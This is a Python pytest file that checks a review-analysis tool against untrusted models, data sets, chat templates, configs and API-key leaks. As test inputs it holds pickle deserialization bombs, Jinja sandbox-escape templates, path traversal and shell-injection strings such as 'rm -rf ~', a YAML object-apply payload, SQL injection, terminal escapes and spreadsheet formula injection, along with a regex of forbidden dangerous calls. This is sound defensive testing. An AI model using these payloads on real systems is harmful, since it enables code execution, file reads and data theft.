"""What strangers send - models, data sets, answers, names - runs nothing, reads nothing else, and leads nowhere."""

from __future__ import annotations

import csv
import io
import json
import pickle
import re
import shutil
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from types import SimpleNamespace
from typing import Any
from uuid import uuid4

import numpy as np
import pandas as pd
import pytest
import torch
import yaml

from descry.corpus.readers import read_reviews
from descry.embedding.encoder import SentenceEncoder
from descry.errors import InputError, escape_unprintable
from descry.llm.cache import AnswerCache, answer_key
from descry.llm.client import Answer, Failure, Request
from descry.llm.local import LocalModel
from descry.llm.options import LocalOptions, ServerOptions
from descry.llm.prompts import Prompt
from descry.llm.server import Server
from descry.models import fetch as models
from descry.models.fetch import Origin, fetch
from descry.models.target import Target
from descry.report.build import build_report
from descry.report.page.csv import write_csv as written
from descry.settings.llms import Llms, LocalLlm, ServerLlm
from descry.settings.models import LlmWeights
from descry.settings.parsing import parse_edits, parse_section
from tests.conftest import ROOT
from tests.report.test_report import a_run
from tests.support.fake_server import FakeServer, Reply, refused, said
from tests.support.tiny_llms import causal, saved

Change = Callable[[Path], object]


def as_local_model(folder: Path) -> LocalModel:
    options = LocalLlm(client="transformers", batch_tokens=100).model_dump(exclude={"client"})
    return LocalModel(folder, "x", "", LocalOptions(**options))


READERS: tuple[Callable[[Path], object], ...] = (Target, SentenceEncoder, as_local_model)


class Bomb:
    """Makes a file where it is unpickled."""

    def __init__(self, mark: Path) -> None:
        self.mark = mark

    def __reduce__(self) -> Any:
        return Path.touch, (self.mark,)


def edit(folder: Path, name: str, **changes: Any) -> None:
    path = folder / name
    before = json.loads(path.read_text()) if path.exists() else {}
    path.write_text(json.dumps(before | changes))


OUTSIDE = "words-of-another-folder"


@pytest.fixture
def folder(tmp_path: Path, tiny_bert: Path) -> Path:
    """A model folder of a stranger, beside a file that is none of its business."""
    (tmp_path / "secret.txt").write_text(f"[UNK]\n{OUTSIDE}\n")
    return Path(shutil.copytree(tiny_bert, tmp_path / "theirs"))


# ----------------------------------------------------------------------------------------------- models


def only_a_pickle(folder: Path) -> None:
    (folder / "model.safetensors").unlink()
    torch.save({"x": Bomb(folder.parent / "ran")}, folder / "pytorch_model.bin")


def pickle_called_weights(folder: Path) -> None:
    (folder / "model.safetensors").write_bytes(pickle.dumps(Bomb(folder.parent / "ran")))


def an_index(*shards: str) -> Change:
    def change(folder: Path) -> None:
        edit(folder, "model.safetensors.index.json", weight_map=dict(zip("abc", shards, strict=False)))

    return change


def a_pickle_in_the_index(folder: Path) -> None:
    torch.save({"x": Bomb(folder.parent / "ran")}, folder / "evil.json")
    an_index("evil.json")(folder)


def a_module(kind: str) -> Change:
    return lambda folder: (folder / "modules.json").write_text(json.dumps([{"type": kind, "path": "", "name": "0"}]))


def a_link(name: str, target: str = "secret.txt") -> Change:
    def change(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(folder.parent / target)

    return change


def a_linked_folder(folder: Path) -> None:
    (folder.parent / "elsewhere").mkdir()
    (folder.parent / "elsewhere" / "config.json").write_text("{}")
    (folder / "1_Pooling").symlink_to(folder.parent / "elsewhere")


REFUSED: dict[str, tuple[Change, str]] = {
    "only a pickle": (only_a_pickle, "no *.safetensors"),
    "a pickle called safetensors": (pickle_called_weights, "is damaged"),
    "an index that leaves the folder": (an_index("../../x.safetensors"), "'../../x.safetensors', which is no"),
    "an index with a path from the root": (an_index("/etc/passwd"), "'/etc/passwd', which is no"),
    "an index of a pickle": (a_pickle_in_the_index, "'evil.json', which is no"),
    "an index of numbers": (
        lambda folder: edit(folder, "model.safetensors.index.json", weight_map=[1]),
        "not an index",
    ),
    "a configuration that is not JSON": (lambda folder: (folder / "config.json").write_text("{"), "is not JSON"),
    "a kernel of the Hub": (
        lambda folder: edit(folder, "config.json", attn_implementation="x/kernel"),
        "code from the",
    ),
    "a kernel, deeper": (
        lambda folder: edit(folder, "config.json", text=[{"_attn_implementation": "x/y"}]),
        "code from",
    ),
    "a module of the folder": (a_module("evil.Evil"), "asks for 'evil.Evil'"),
    "a module of any library": (a_module("joblib.numpy_pickle"), "asks for 'joblib.numpy_pickle'"),
    "a module behind a module": (
        a_module("sentence_transformers.base.model.pickle"),
        "model.pickle', which is not one",
    ),
    "modules that are no list": (
        lambda folder: (folder / "modules.json").write_text('{"a": 1}'),
        "not a list of modules",
    ),
    "a link to a file outside": (a_link("vocab.txt"), "a link that leads out of the folder"),
    "a link to a folder outside": (a_linked_folder, "a link that leads out of the folder"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_a_model_that_reaches_out_is_refused_before_anything_is_copied(folder: Path, name: str) -> None:
    change, message = REFUSED[name]
    change(folder)
    with pytest.raises(InputError, match=re.escape(message)) as caught:
        fetch(Origin(str(folder)), folder.parent / "out")
    assert OUTSIDE not in str(caught.value)
    assert not (folder.parent / "out").exists()
    assert not (folder.parent / "ran").exists()


def test_links_into_a_store_by_hash_are_files_like_others(folder: Path) -> None:
    blob = folder.parent / "blobs" / ("ab" * 20)
    blob.parent.mkdir()
    shutil.move(folder / "tokenizer.json", blob)
    (folder / "tokenizer.json").symlink_to(blob)
    fetch(Origin(str(folder)), folder.parent / "out")
    assert (folder.parent / "out" / "tokenizer.json").read_bytes() == blob.read_bytes()
    assert not (folder.parent / "out" / "tokenizer.json").is_symlink()


OWN_CODE = {"AutoConfig": "evil.Config", "AutoModel": "evil.Evil", "AutoModelForCausalLM": "evil.Evil"}


def own_code(folder: Path) -> None:
    edit(folder, "config.json", auto_map=OWN_CODE, model_type="evil", architectures=["Evil"])


def own_tokenizer(folder: Path) -> None:
    edit(folder, "tokenizer_config.json", tokenizer_class="Evil", auto_map={"AutoTokenizer": ["evil.Evil", None]})
    (folder / "tokenizer.json").unlink()


def a_vocabulary_elsewhere(folder: Path) -> None:
    secret = str(folder.parent / "secret.txt")
    edit(folder, "tokenizer_config.json", vocab_file=secret, tokenizer_file=secret, name_or_path=str(folder.parent))


CODE: dict[str, Change] = {
    "auto_map": own_code,
    "a tokenizer of the folder": own_tokenizer,
    "a vocabulary elsewhere": a_vocabulary_elsewhere,
    "a module of the folder": a_module("evil.Evil"),
    "a module that is not there": a_module("sentence_transformers.nowhere.X"),
    "a kernel of the Hub": lambda folder: edit(folder, "config.json", attn_implementation="x/kernel"),
    "weights elsewhere": lambda folder: edit(folder, "config.json", transformers_weights="../x.safetensors"),
}


@pytest.mark.parametrize("reader", READERS, ids=["target", "embedder", "llm"])
@pytest.mark.parametrize("name", CODE)
def test_a_folder_that_was_not_fetched_runs_no_code_either(
    folder: Path, monkeypatch: pytest.MonkeyPatch, name: str, reader: Callable[[Path], object]
) -> None:
    mark = folder.parent / "ran"
    (folder / "evil.py").write_text(
        f"import pathlib\npathlib.Path({str(mark)!r}).touch()\nclass Evil: ...\nConfig = Evil"
    )
    monkeypatch.setattr("builtins.input", lambda _: "y")  # whoever asks for leave gets it
    monkeypatch.chdir(folder)
    CODE[name](folder)
    with suppress(InputError):
        made: Any = reader(folder)
        tokenizer = getattr(made, "tokenizer", None) or getattr(made, "_tokenizer", None) or made._model.tokenizer
        assert OUTSIDE not in tokenizer.get_vocab()
    assert not mark.exists()
    assert "evil" not in sys.modules


def test_without_the_refusals_that_code_would_run(folder: Path) -> None:
    """The bomb is one, so that its silence says something."""
    only_a_pickle(folder)
    torch.load(folder / "pytorch_model.bin", weights_only=False)
    assert (folder.parent / "ran").exists()


@pytest.mark.parametrize(
    "template",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.system('touch ran') }}",
        "{% for i in range(10**9) %}{% endfor %}",
        "{{ 1 / ",
        "{% include '/etc/passwd' %}",
    ],
)
def test_a_chat_template_is_run_in_a_sandbox(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, template: str) -> None:
    monkeypatch.chdir(tmp_path)
    model = as_local_model(saved(tmp_path / "chat", *causal(["a review"], template=template)))
    with pytest.raises(InputError, match="chat template does not run"):
        model.answer([Request("a review", 2)])
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("name", ["../x", "a/b/c", "..", "/etc", "A", "x;y", "x\n", "$(touch x)", "a.b", ""])
def test_a_language_models_name_is_no_path(name: str) -> None:
    with pytest.raises(InputError):
        parse_section(LlmWeights, {"models": {"llms": {name: {"source": "package:x"}}}})
    with pytest.raises(InputError):
        parse_section(Llms, {"llms": {name: {"client": "openai", "base_url": "http://localhost/v1", "model": "x"}}})


@pytest.mark.parametrize("source", ["../x", "a/../b", "owner/..", "https://example.org/model", "owner/name; rm -rf ~"])
def test_an_odd_model_name_asks_no_hub(source: str) -> None:
    with pytest.raises(InputError, match=r"no such folder|cannot be fetched"):
        models.locate(Origin(source, revision="0" * 40))


# ---------------------------------------------------------------------------------------------- reviews


@pytest.mark.parametrize(
    "source",
    ["hf://../etc", "hf://a/..", "hf://./x", "hf://a/b@../c", "hf://a/b/..", "hf://a/b;x", "hf://$(x)/y", "hf://a/b\n"],
)
def test_an_odd_data_set_address_is_refused(source: str) -> None:
    with pytest.raises(InputError, match="write hf://owner/name"):
        read_reviews(source)


def data_sets(monkeypatch: pytest.MonkeyPatch, version: str) -> list[str]:
    """A library of data sets, and the names that it was asked for."""
    asked: list[str] = []
    library = SimpleNamespace(__version__=version, load_dataset=lambda name, **_: asked.append(name) or [{"text": "x"}])
    monkeypatch.setitem(sys.modules, "datasets", library)
    return asked


def test_a_data_set_is_neither_a_script_nor_a_local_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    asked = data_sets(monkeypatch, "3.6.0")
    with pytest.raises(InputError, match="can run code of a data set"):
        read_reviews("hf://owner/name")
    asked = data_sets(monkeypatch, "4.2.0")
    (tmp_path / "owner" / "name").mkdir(parents=True)
    with pytest.raises(InputError, match="the folder owner/name of this machine would be read"):
        read_reviews("hf://owner/name")
    assert asked == []
    assert len(list(read_reviews("hf://owner/other"))) == 1
    assert asked == ["owner/other"]


@pytest.mark.parametrize("source", ["https://example.org/reviews.csv", "s3://bucket/x.csv", "file:///etc/passwd.csv"])
def test_reviews_come_from_files_alone(source: str) -> None:
    with pytest.raises(InputError, match="no such file"):
        read_reviews(source)


def test_an_edits_file_makes_no_objects() -> None:
    with pytest.raises(InputError, match="not YAML"):
        parse_edits("rename: !!python/object/apply:os.system ['touch ran']\nmerge: {}\ndrop: []\n", "edits.yaml")


def test_what_fills_a_prompt_is_no_field() -> None:
    prompt = Prompt.parse("Read: {sentence} of {words}", ("sentence", "words"), "x.txt")
    assert prompt.fill(sentence="{words} {0.__class__} %s", words="4") == "Read: {words} {0.__class__} %s of 4"


def test_what_stands_in_an_answer_is_no_sql(tmp_path: Path) -> None:
    cache = AnswerCache(tmp_path)
    nasty = "'); DROP TABLE answers; --"
    key = answer_key({"model": nasty}, Request(nasty, 3))
    cache.write({key: Answer(nasty, None, (1, 1))})
    assert cache.read([key, b"' OR '1'='1"]) == {key: Answer(nasty, None, (1, 1))}


# ------------------------------------------------------------------------------------------ what is shown


def test_a_message_is_one_line_that_a_terminal_can_only_show() -> None:
    text = "id \x1b]0;owned\x07 \x1b[2J line\nline \r over \u202egnp.exe \u200b é 电池"
    shown = str(InputError(text))
    assert shown == escape_unprintable(text)
    assert shown.isprintable()
    assert "\\x1b[2J" in shown
    assert "é 电池" in shown
    assert str(InputError(shown)) == shown


def test_an_odd_id_in_a_message_moves_no_cursor(tmp_path: Path) -> None:
    line = json.dumps({"review_id": "\x1b[2J\n", "text": "x"})
    (tmp_path / "r.jsonl").write_text(f"{line}\n{line}\n")
    with pytest.raises(InputError, match="used before") as caught:
        list(read_reviews(tmp_path / "r.jsonl"))
    assert str(caught.value).isprintable()


FORMULAS = (
    '=HYPERLINK("https://example.org/?"&A1;"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
)
PLAIN = ("a;=1+1", "a\t=1+1", 'a",=1+1', "3 = 3", "e-mail", "'quoted", "电池")


def cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


def test_no_cell_of_a_table_is_a_formula() -> None:
    names = [*FORMULAS, *PLAIN]
    table = pd.DataFrame({"name": names, "n": -np.arange(len(names)), "share": -1 / 3, "=1+1": "x"})
    content = written(table)
    header, *rows = cells(content)
    assert header == ["name", "n", "share", "'=1+1"]
    for name, row in zip(names, rows, strict=True):
        assert row[0] == (f"'{name}" if name in FORMULAS else name)
        assert float(row[2]) == -0.333333
    # Every text is between quotes: a spreadsheet that splits at semicolons or tabs finds no cell in it.
    assert content.count(b'"') % 2 == 0
    assert all(line.startswith('"') for line in content.decode().split("\n") if line and line[0] not in "\t\r")


def test_no_cell_of_the_report_is_a_formula() -> None:
    files = build_report(a_run([*FORMULAS[:4], "battery"]), exemplars=1)
    tables = {name: cells(content) for name, content in files.items() if name.endswith(".csv")}
    assert len(tables) >= 6
    texts = [
        cell for rows in tables.values() for row in rows for cell in row if not re.fullmatch(r"[-+\d.e]*|nan", cell)
    ]
    assert {f"'{name}" for name in FORMULAS[:4]} <= set(texts)
    assert not [text for text in texts if text.startswith(("=", "+", "-", "@", "\t", "\r"))]


# ----------------------------------------------------------------------------------------------- keys


KEY = f"sk-{uuid4().hex}"


def asked(monkeypatch: pytest.MonkeyPatch, url: str) -> Answer | Failure:
    monkeypatch.setenv("SHOP_KEY", KEY)
    options = ServerLlm(client="openai", base_url=url, model="m", key="SHOP_KEY").model_dump(exclude={"client"})
    server = Server("shop", ServerOptions(**options), parallel=1, timeout=10.0, retries=0)
    return server.answer([Request("a prompt", 5)])[0]


def test_a_key_does_not_follow_a_server_to_another_one(monkeypatch: pytest.MonkeyPatch) -> None:
    with FakeServer(lambda _: said("caught")) as other:
        sent_on = Reply(307, headers={"Location": f"{other.url}/chat/completions"})
        with FakeServer(lambda _: sent_on) as server:
            asked(monkeypatch, server.url)
            assert server.seen[0].headers["authorization"] == f"Bearer {KEY}"
        assert not [seen for seen in other.seen if KEY in str(seen)]


@pytest.mark.parametrize(
    "reply",
    [
        said(f"the key is {KEY}"),
        refused(400, f"wrong: {KEY}"),
        refused(418, f"{'x' * 180} {KEY} {KEY}"),
        Reply(500, f"<html>{KEY}</html>".encode(), "text/html"),
    ],
)
def test_a_key_that_a_server_repeats_is_struck_out(monkeypatch: pytest.MonkeyPatch, reply: Reply) -> None:
    with FakeServer(lambda _: reply) as server:
        told = str(asked(monkeypatch, server.url))
    assert KEY not in told
    assert KEY[:12] not in told


@pytest.mark.parametrize(
    "reply",
    [
        *(refused(status, f"no {KEY}") for status in (401, 403, 404)),
        Reply(200, f"{KEY}".encode(), "text/html"),
    ],
)
def test_a_refusal_that_repeats_the_key_is_told_without_it(monkeypatch: pytest.MonkeyPatch, reply: Reply) -> None:
    with FakeServer(lambda _: reply) as server, pytest.raises(InputError) as caught:
        asked(monkeypatch, server.url)
    assert KEY not in str(caught.value)


def test_a_key_in_the_place_of_its_name_is_not_repeated() -> None:
    entry = {"client": "openai", "base_url": "http://localhost/v1", "model": "m"}
    wrong = [
        {"key": KEY},
        {"api_key": KEY},
        {"base_url": f"http://me:{KEY}@host/v1"},
        {"base_url": f"http://h?k={KEY}"},
    ]
    for change in wrong:
        with pytest.raises(InputError) as caught:
            parse_section(Llms, {"llms": {"shop": entry | change}})
        assert KEY not in str(caught.value)


# --------------------------------------------------------------------------------------- the code itself


def test_no_parameter_reaches_a_shell() -> None:
    """A command of the pipeline takes in nothing but the literal items of its own stage."""
    stages = yaml.safe_load((ROOT / "dvc.yaml").read_text())["stages"]
    for name, stage in stages.items():
        items = [item for values in stage.get("matrix", {}).values() for item in values]
        assert all(re.fullmatch(r"[a-z_]+", item) for item in items), name
        filled = re.sub(r"\$\{item\.[a-z]+\}", "x", stage["cmd"])
        assert re.fullmatch(r"exec python -m stages\.[a-z]+( x)?", filled), name


FORBIDDEN = re.compile(
    r"trust_remote_code(\"|')?[:=] ?True|\b(pickle|joblib|shelve|marshal|dill)\b|torch\.load|np\.load|allow_pickle"
    r"|yaml\.(load|unsafe_load)\(|shell=True|os\.(system|popen)|(?<!\.)\b(eval|exec)\(|\|\s*safe\b|autoescape=False"
)


def test_nothing_that_runs_data_stands_in_the_code() -> None:
    allowed = {"yaml.load(": {"stages/commands/preset.py", "descry/results/layout.py"}}  # with safe loaders
    allowed |= {key: {"descry/models/dictionary_files.py"} for key in ("np.load", "allow_pickle", "pickle")}  # refused
    files = [path for folder in ("descry", "stages") for path in (ROOT / folder).rglob("*") if path.suffix in KINDS]
    assert len(files) > 60
    for path in files:
        name = str(path.relative_to(ROOT))
        text = re.sub(r'"""(?s:.)*?"""|#.*', "", path.read_text())
        found = {match[0] for match in FORBIDDEN.finditer(text)}
        assert {one for one in found if name not in allowed.get(one, set())} == set(), name


KINDS = {".py", ".jinja"}
